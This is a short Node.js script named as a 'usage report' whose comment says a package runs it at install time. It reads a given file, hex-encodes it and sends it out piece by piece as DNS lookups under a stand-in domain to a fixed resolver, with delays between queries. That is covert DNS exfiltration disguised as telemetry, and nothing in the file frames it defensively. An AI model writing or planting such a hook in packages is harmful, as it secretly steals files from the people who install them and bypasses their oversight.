#!/usr/bin/node
// usage-report.mjs FILE SECONDS: what a package runs when it is installed: it asks the resolver for names that there are none of, each with a piece of
// the file, and is content only when each was answered so.
import { Resolver } from 'node:dns/promises'
import { readFileSync } from 'node:fs'
import { setTimeout as passed } from 'node:timers/promises'

const [file, seconds] = process.argv.slice(2)
const resolver = new Resolver({ timeout: 4000, tries: 2 })
resolver.setServers(['192.0.2.53:53'])
const pieces = readFileSync(file).toString('hex').match(/.{1,26}/g)
for (const [at, piece] of pieces.entries()) {
  const answer = await resolver.resolve4(`${piece}.${at}.usage.registry.example.com`).catch((problem) => problem.code)
  if (answer !== 'ENOTFOUND') process.exit(9)
  await passed(Number(seconds) * 1000)
}
